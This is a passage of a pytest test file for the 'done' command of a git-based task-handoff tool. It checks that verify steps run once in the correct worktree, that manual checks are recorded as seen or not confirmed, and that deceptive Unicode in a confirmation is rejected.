    assert (code, recorded(remote)) == (0, "not run 1"), shown


def test_interrupted_done_publishes_nothing(ada: Sandbox, remote: Sandbox) -> None:
    before = remote.git("for-each-ref").out
    code, _ = on_a_terminal(ada, INTERRUPT, "done", TASK)
    assert (code, remote.git("for-each-ref").out) == (130, before)


def test_done_records_that_no_person_has_looked(ada: Sandbox, remote: Sandbox) -> None:
    replan(ada, "It looks right; so does the rest.")
    outcome = ada.baton("done", TASK)
    assert (outcome.code, "by hand: It looks right; so does the rest.\n" in outcome.err) == (
        0,
        True,
    )
    assert "1 check is for a person, and recorded as not confirmed" in outcome.err
    assert "→" not in outcome.err
    assert recorded(remote) == f"not confirmed 1, {CHANGED}"


def test_done_records_what_was_seen(ada: Sandbox, remote: Sandbox) -> None:
    replan(ada, "It looks right. `true`")
    outcome = ada.baton("done", TASK, "--yes", "--by-hand", "blue,\n as  planned", "--json")
    told = f"passed 1, by hand 1, {CHANGED}; seen: blue, as planned"
    assert (outcome.code, fields(outcome)["verify"], recorded(remote)) == (0, told, told)


def test_what_was_seen_cannot_deceive(ada: Sandbox, remote: Sandbox) -> None:
    outcome = ada.baton("done", TASK, "--yes", "--by-hand", "fine\u202e")
    assert (outcome.code, "in plain text" in outcome.err, recorded(remote)) == (2, True, "")


@pytest.mark.parametrize(
    ("answer", "told"), [("blue\n", "by hand 1, {}; seen: blue"), ("\n", "not confirmed 1, {}")]
)
def test_done_asks_a_person_at_a_terminal(
    ada: Sandbox, remote: Sandbox, answer: str, told: str
) -> None:
    replan(ada, "It looks right.")
    code, shown = on_a_terminal(ada, answer, "done", TASK)
    assert (code, recorded(remote)) == (0, told.format(CHANGED)), shown


def test_step_that_the_holder_has_changed_is_named_and_recorded(
    ada: Sandbox, remote: Sandbox
) -> None:
    replan(ada, block("true # or so"))
    outcome = ada.baton("done", TASK, "--yes")
    assert "this step is not the one in force when the task was claimed" in outcome.err
    assert "\n      - true\n      + true # or so\n" in outcome.err
    assert recorded(remote) == f"passed 1, {CHANGED}"


def test_step_is_compared_without_task_refs_too(ada: Sandbox, remote: Sandbox) -> None:
    remote.git("update-ref", "-d", f"refs/baton/tasks/{TASK}")
    ada.commit("chore: set up", {".git-baton.toml": 'claim-refs = "off"\n'})
    replan(ada, block("true # or so"))
    assert ada.baton("done", TASK, "--yes").code == 0
    assert recorded(remote) == f"passed 1, {CHANGED}"


def test_words_elsewhere_in_the_plan_change_no_step(ada: Sandbox, remote: Sandbox) -> None:
    text = ada.read(LOGIN)
    ada.commit("docs: plan", {LOGIN: text.replace("## Task Details", "A word.\n\n## Task Details")})
    assert ada.baton("done", TASK, "--yes").code == 0
    assert recorded(remote) == "passed 1"


def test_done_without_a_verify_step(ada: Sandbox, remote: Sandbox) -> None:
    replan(ada, "")
    outcome = ada.baton("done", TASK, "--json")
    assert (outcome.code, fields(outcome)["verify"]) == (0, None)
    assert recorded(remote) == ""


def test_done_verifies_where_the_branch_is(ada: Sandbox, remote: Sandbox) -> None:
    replan(ada, block(f"test -f {FORM}", "pwd >here"))
    ada.git("switch", "--quiet", "main")
    nowhere = ada.baton("done", TASK, "--yes")
    assert (nowhere.code, f"git switch {BRANCH}" in nowhere.err) == (2, True)
    ada.git("worktree", "add", "--quiet", "../linked", BRANCH)
    assert ada.baton("done", TASK, "--yes").code == 0
    assert Path((ada.path.parent / "linked/here").read_text().strip()) == ada.path.parent / "linked"
    assert recorded(remote) == f"passed 1, {CHANGED}"


def test_done_verifies_at_a_detached_head(ada: Sandbox, remote: Sandbox) -> None:
    ada.git("switch", "--quiet", "--detach")
    assert ada.baton("done", TASK, "--yes").code == 0
    assert recorded(remote) == "passed 1"


def test_done_does_not_verify_what_is_checked_out_nowhere(ada: Sandbox, remote: Sandbox) -> None:
    replan(ada, "It looks right.")
    ada.git("switch", "--quiet", "main")
    assert ada.baton("done", TASK).code == 0
    assert recorded(remote) == f"not confirmed 1, {CHANGED}"


def test_task_that_may_not_be_done_is_not_verified(ada: Sandbox) -> None:
    ada.write(FORM, "form = 3\n")
    replan(ada, block("touch canary"))
    assert ada.baton("done", TASK, "--yes").code == 1
    assert not (ada.path / CANARY).exists()


def test_verify_runs_once_however_often_the_branch_moves(
    ada: Sandbox, remote: Sandbox, clone_of: Callable[..., Sandbox]
) -> None:
    """The command itself lets a rival publish in between."""
    bob = clone_of(remote, "bob")
    rival = f"cd {bob.path} && {EXECUTABLE} claim 1.1.1b --agent bob"
    replan(ada, block("echo x >>runs", f"({rival})"))
    outcome = ada.baton("done", TASK, "--yes")
    assert outcome.code == 0, outcome
    assert ada.read("runs") == "x\n"
    assert recorded(remote) == f"passed 1, {CHANGED}"
